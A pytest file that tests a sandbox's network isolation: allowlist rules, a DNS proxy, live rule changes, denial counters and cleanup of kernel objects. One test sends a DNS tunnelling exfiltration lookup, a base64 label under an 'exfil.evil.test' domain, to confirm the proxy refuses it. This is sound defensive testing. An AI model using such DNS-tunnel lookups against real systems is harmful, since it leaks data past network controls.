"""Sandbox networking end to end: allow/deny matrix (groups, CIDRs, ports, protocols, IPv6),
a rule change in the middle of a session, the DNS proxy honouring the rules, counters, and
cleanup of every per-sandbox kernel object. Test servers live in a test network namespace
and serve made-up `*.test` names from the edge's static DNS table."""

from __future__ import annotations

import os
import time

import pytest

from helpers import find_dsec_bin, stop_quietly
from netfixture import NPM, PYPI, PYPI6, TABLE, NetUp, TestServers, denied, run, sh

import dsec

GET = "wget -q -T 2 -O - {url}"


@pytest.fixture(scope="module")
def servers():
    s = TestServers().start()
    yield s
    s.stop()


@pytest.fixture(scope="module")
def net_node(servers):
    b = find_dsec_bin()
    if b is None:
        pytest.skip("no dsec binary")
    up = NetUp(b, "net")
    up.start()
    yield up
    assert up.finish() == 0


@pytest.fixture(scope="module")
def nclient(net_node):
    c = net_node.client()
    yield c
    c.close()


def make(nclient, **kw):
    return nclient.run_container(dsec.DSecContainerRunArgs(container_image="busybox", **kw), timeout=60)


def ok(sb, cmd):
    code, out = run(sb, cmd)
    return code == 0 and "reference-solution-42" in out


def test_default_is_loopback_only(nclient):
    sb = make(nclient)
    try:
        assert sb.network()["mode"] == "none"
        code, out = run(sb, "ip -o addr 2>/dev/null || ifconfig -a")
        assert "eth0" not in out
        assert not ok(sb, GET.format(url=f"http://{PYPI}/"))
    finally:
        stop_quietly(sb)


def test_groups_and_dns_proxy(nclient):
    sb = make(nclient, network_rules={"pypi": True, "npm": False})
    try:
        st = sb.network()
        assert st["mode"] == "allowlist" and st["ipv4"].startswith("10.231.")
        # Allowed group, by name: DNS answers and the address is granted for the TTL.
        assert ok(sb, GET.format(url="http://pypi.test/"))
        assert ok(sb, GET.format(url="http://files.pypi.test/"))
        st = sb.network()
        assert any(g["name"] == "pypi.test" and g["address"] == PYPI and 0 < g["expires_in_s"] <= 30 for g in st["dns_grants"]), st
        # Denied group: the proxy refuses the name, and the address is not reachable either.
        before = st["dns_refused"]
        code, out = run(sb, "nslookup npm.test")
        assert code != 0 or "REFUSED" in out.upper() or "can't" in out
        assert not ok(sb, GET.format(url="http://npm.test/"))
        assert not ok(sb, GET.format(url=f"http://{NPM}/"))
        # Unknown names (also DNS tunnelling attempts) are refused and counted.
        run(sb, "nslookup aGVsbG8gd29ybGQ.exfil.evil.test")
        after = sb.network()
        assert after["dns_refused"] >= before + 2, after
        # An allowed name on a non-allowed port.
        d0 = denied(sb)
        assert not ok(sb, GET.format(url="http://pypi.test:8080/"))
        assert denied(sb) > d0
    finally:
        stop_quietly(sb)


MATRIX = [
    # (rules, url-or-cmd, allowed)
    ([{"cidr": f"{PYPI}/32", "ports": "80", "protocol": "tcp"}], f"http://{PYPI}/", True),
    ([{"cidr": f"{PYPI}/32", "ports": "80", "protocol": "tcp"}], f"http://{PYPI}:8080/", False),
    ([{"cidr": f"{PYPI}/32", "ports": "80", "protocol": "tcp"}], f"http://{NPM}/", False),
    ([{"cidr": "198.18.7.0/24", "ports": "8000-8100", "protocol": "tcp"}], f"http://{PYPI}:8080/", True),
    ([{"cidr": "198.18.7.0/24", "ports": "8000-8100", "protocol": "tcp"}], f"http://{NPM}/", False),
    ([{"cidr": "198.18.7.0/24", "protocol": "udp"}], f"http://{PYPI}/", False),
    ([{"cidr": "198.18.7.0/24"}], f"http://{NPM}/", True),
    ([{"cidr": "fd42:7::/64", "ports": "80", "protocol": "tcp"}], f"http://[{PYPI6}]/", True),
    ([{"cidr": f"{PYPI}/32", "ports": "80", "protocol": "tcp"}], f"http://[{PYPI6}]/", False),
]


@pytest.mark.parametrize("rules,url,allowed", MATRIX)
def test_cidr_port_protocol_matrix(nclient, rules, url, allowed):
    sb = make(nclient, network={"mode": "allowlist", "rules": rules})
    try:
        d0 = denied(sb)
        assert ok(sb, GET.format(url=url)) == allowed, (rules, url)
        if not allowed:
            assert denied(sb) > d0, "a denied connection must be counted"
    finally:
        stop_quietly(sb)


def test_icmp_rule(nclient):
    sb = make(nclient, network={"mode": "allowlist", "rules": [{"cidr": f"{PYPI}/32", "protocol": "icmp"}]})
    try:
        assert run(sb, f"ping -c 1 -W 2 {PYPI}")[0] == 0
        assert run(sb, f"ping -c 1 -W 2 {NPM}")[0] != 0
        assert not ok(sb, GET.format(url=f"http://{PYPI}/"))
    finally:
        stop_quietly(sb)


def test_rule_change_mid_session(nclient):
    sb = make(nclient, network={"mode": "allowlist"})
    try:
        run(sb, "export MARK=kept; cd /tmp")
        assert not ok(sb, GET.format(url=f"http://{PYPI}:8080/"))
        t0 = time.monotonic()
        st = sb.set_network_rules([{"cidr": f"{PYPI}/32", "ports": "8080", "protocol": "tcp"}])
        assert st["rules"][0]["ports"] == "8080"
        assert ok(sb, GET.format(url=f"http://{PYPI}:8080/"))
        assert time.monotonic() - t0 < 5
        # Same session: state kept across the change.
        assert run(sb, "echo $MARK $(pwd)")[1].strip() == "kept /tmp"
        # Groups can be switched on live too, then everything off again.
        sb.set_network_rules([], groups={"npm": True})
        assert ok(sb, GET.format(url="http://npm.test/"))
        assert not ok(sb, GET.format(url=f"http://{PYPI}:8080/"))
        sb.set_network_rules([], groups={"npm": False})
        assert not ok(sb, GET.format(url=f"http://{NPM}/"))
        with pytest.raises(dsec.DSecError):
            sb.set_network_rules([{"cidr": "10.0.0.1/8"}])
    finally:
        stop_quietly(sb)


def test_open_mode_still_isolates_node(nclient, net_node):
    sb = make(nclient, network={"mode": "open"})
    other = make(nclient, network={"mode": "open"})
    try:
        assert ok(sb, GET.format(url=f"http://{NPM}/"))
        # Not the other sandbox, not the host's own addresses (edge/apiserver, test servers' host end).
        oip = other.network()["ipv4"]
        assert run(sb, f"ping -c 1 -W 1 {oip}")[0] != 0
        assert not ok(sb, "wget -q -T 2 -O - http://198.18.7.1:%d/" % net_node.port)
    finally:
        stop_quietly(sb)
        stop_quietly(other)


def test_bad_requests(nclient):
    for kw in [
        {"network_rules": {"nosuchgroup": True}},
        {"network": {"mode": "allowlist", "rules": [{"cidr": "10.0.0.0/33"}]}},
        {"network": {"mode": "none", "rules": [{"cidr": "10.0.0.0/8"}]}},
        {"network": {"mode": "allowlist", "rules": [{"cidr": "10.0.0.0/8", "ports": "1", "protocol": "icmp"}]}},
    ]:
        with pytest.raises(dsec.DSecError):
            make(nclient, **kw)


def test_cleanup_after_stop(nclient):
    sb = make(nclient, network={"mode": "allowlist"})
    key = sb.id.rsplit("-", 1)[1][-12:]
    assert os.path.exists(f"/sys/class/net/dst{key}")
    assert sh(f"nft list chain inet {TABLE} sb_{key}", check=False).returncode == 0
    sb.stop()
    assert not os.path.exists(f"/sys/class/net/dst{key}")
    assert sh(f"nft list chain inet {TABLE} sb_{key}", check=False).returncode != 0
    assert not os.path.exists(f"/run/netns/{TABLE}-{sb.id}")
